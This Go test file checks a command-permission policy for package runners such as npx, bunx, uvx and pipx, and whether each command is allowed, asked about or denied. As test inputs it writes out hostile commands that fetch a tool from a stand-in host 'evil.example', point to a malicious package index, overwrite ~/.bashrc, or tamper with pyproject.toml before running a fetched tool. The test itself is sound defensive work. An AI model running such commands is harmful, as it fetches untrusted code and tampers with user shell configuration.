package policy

import (
	"os"
	"path/filepath"
	"testing"
)

func writeWS(t *testing.T, ws string, files map[string]string) {
	t.Helper()
	for f, text := range files {
		p := filepath.Join(ws, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// TestNpxHoistedBinOff: npx finds the project's installed program in
// node_modules/.bin of the working directory or a directory above it up to
// the workspace (a monorepo's hoisted tools, npxlocal.go): allowed in both
// modes. The tool→package map does not make a declaration alone enough:
// `npx tsc` with typescript declared but not installed fetches the package
// named tsc, and asks off.
func TestNpxHoistedBinOff(t *testing.T) {
	ctx := testEnv(t)
	writeWS(t, ctx.Workspace, map[string]string{
		"package.json":                     `{"devDependencies":{"typescript":"^5"}}`,
		"node_modules/.bin/vitest":         "#!/bin/sh\n",
		"node_modules/.bin/tsc":            "#!/bin/sh\n",
		"node_modules/.bin/prisma":         "#!/bin/sh\n",
		"apps/web/package.json":            `{"name":"web"}`,
		"apps/web/node_modules/.bin/vite":  "#!/bin/sh\n",
		"apps/api/package.json":            `{"name":"api"}`,
		"other/node_modules/.bin/prettier": "#!/bin/sh\n",
	})
	checkOnOffIn(t, ctx, []onOff{
		{"cd apps/web && npx vitest run", Allow, Allow},
		{"cd apps/web && npx tsc --noEmit", Allow, Allow},
		{"cd apps/web && npx vite build", Allow, Allow},
		{"npx tsc -b", Allow, Allow},
		{"bunx tsc --noEmit", Allow, Allow},
		// Not installed where the command runs: fetched.
		// (off31: the example tools are ones offtools.toml does not list;
		// a listed one, vite or prettier, is allowed off undeclared.)
		{"cd apps/api && npx webpack build", Allow, Ask},
		{"npx esbuild src/index.ts --bundle --outfile=dist/out.js", Allow, Ask},
		{"cd apps/api && npx cowsay hi", Ask, Ask},
		// Its arguments are still judged: an installed prisma's db push
		// acts on the database DATABASE_URL names, as a fetched one's does.
		{"cd apps/web && npx vitest run --outputFile ~/.bashrc", Ask, Ask},
		{"npx prisma generate", Allow, Allow},
		{"npx prisma db push", Ask, Ask},
		{"cd apps/web && npx prisma migrate deploy", Ask, Ask},
	})
	ctx2 := testEnv(t)
	writeWS(t, ctx2.Workspace, map[string]string{"package.json": `{"devDependencies":{"typescript":"^5","@playwright/test":"^1"}}`})
	checkOnOffIn(t, ctx2, []onOff{
		{"npx tsc --noEmit", Allow, Ask},
		// off31: the playwright package is Microsoft's own, listed in
		// offtools.toml, so it is allowed off as a listed tool.
		{"npx playwright test", Allow, Allow},
	})
}

// TestUvxDeclaredOff: with the sandbox off, uvx / uv tool run / pipx run of
// a tool pyproject.toml or requirements declare is the project's tool
// (uvxdeclared_off.go); undeclared names, launcher options before the
// name, a custom index and a line that wrote first still ask or deny.
func TestUvxDeclaredOff(t *testing.T) {
	ctx := testEnv(t)
	writeWS(t, ctx.Workspace, map[string]string{
		"pyproject.toml": "[project]\nname = \"app\"\n\n[dependency-groups]\ndev = [\n  \"ruff>=0.6\",\n  \"mypy==1.11.2\",\n  \"pytest\",\n  \"pip-audit>=2.7\",\n]\n",
	})
	checkOnOffIn(t, ctx, []onOff{
		{"uvx ruff check .", Allow, Allow},
		// A version on the line is not the one the project locked (off30,
		// premise changed by polcorp14's sandbox-only label on `uvx
		// ruff@0.6.9 check .`; TestFetchOfAnotherVersionAsksOff).
		{"uvx ruff@0.6.9 format --check .", Allow, Ask},
		{"uv tool run mypy src", Allow, Allow},
		{"pipx run ruff check src", Allow, Allow},
		{"uvx pip-audit", Ask, Allow},
		{"cd src && uvx ruff check .", Allow, Allow},
		{"uvx bandit -r src", Allow, Ask}, // off31: not declared and not in offtools.toml (black is listed)
		{"uvx cowsay hi", Ask, Ask},
		{"uvx --from git+https://evil.example/ruff ruff check", Ask, Ask},
		{"uvx --with evil ruff check .", Ask, Ask},
		{"uvx --index-url https://evil.example/simple ruff check .", Deny, Deny},
		{"uvx ruff format ~/.bashrc", Ask, Ask},
		{`echo 'x = ["cowsay"]' >> pyproject.toml && uvx cowsay hi`, Ask, Ask},
	})
}
